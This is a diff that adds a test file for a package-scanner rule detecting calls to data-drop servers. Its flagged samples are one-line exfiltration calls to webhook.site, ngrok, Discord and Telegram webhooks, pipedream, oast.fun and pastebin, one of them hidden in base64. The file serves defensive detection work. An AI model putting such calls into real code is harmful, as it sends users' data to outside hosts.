@@ -1,0 +1,42 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { findingsOf } from '#test/support/scan-package.js';
+import { rule } from './drop-server.rule.js';
+
+const worst = (text: string, path = 'a.js') => findingsOf(rule, { [path]: text })[0]?.severity ?? 'nothing';
+
+test("bad: what it looks for", () => {
+  for (const code of [
+    "fetch(\"https://webhook.site/1-2\", { body })",
+    "const u = \"https://abc\" + \".ngrok.io/x\"; go(u)",
+    "const h = \"https://discord.com/api/webhooks/1/x\"",
+    "post(`https://api.telegram.org/bot${t}/sendMessage`)",
+    "new URL(\"https://eo1.m.pipedream.net\")",
+    "request({ hostname: \"x.oast.fun\" })",
+    "go(atob(\"aHR0cHM6Ly93ZWJob29rLnNpdGUveA==\"))",
+  ]) assert.equal(worst(code), 'high', code);
+});
+
+test("bad: the same in Python", () => {
+  for (const code of [
+    "requests.post(\"https://webhook.site/1\", data=d)",
+    "u = f\"https://pastebin.com/raw/{x}\"",
+  ]) assert.equal(worst(code, 'a.py'), 'high', code);
+});
+
+test("good: what only looks like it", () => {
+  for (const code of [
+    "fetch(\"https://example.org/webhook.site\")",
+    "fetch(\"https://discord.com/api/v10/users/1\")",
+    "fetch(\"https://mywebhook.site.example.org/x\")",
+    "// https://webhook.site/1",
+    "const name = \"webhook.site\"",
+  ]) assert.equal(worst(code), 'nothing', code);
+});
+
+test("good: the same in Python", () => {
+  for (const code of [
+    "# https://webhook.site/1",
+    "u = \"https://example.org/pastebin.com\"",
+  ]) assert.equal(worst(code, 'a.py'), 'nothing', code);
+});
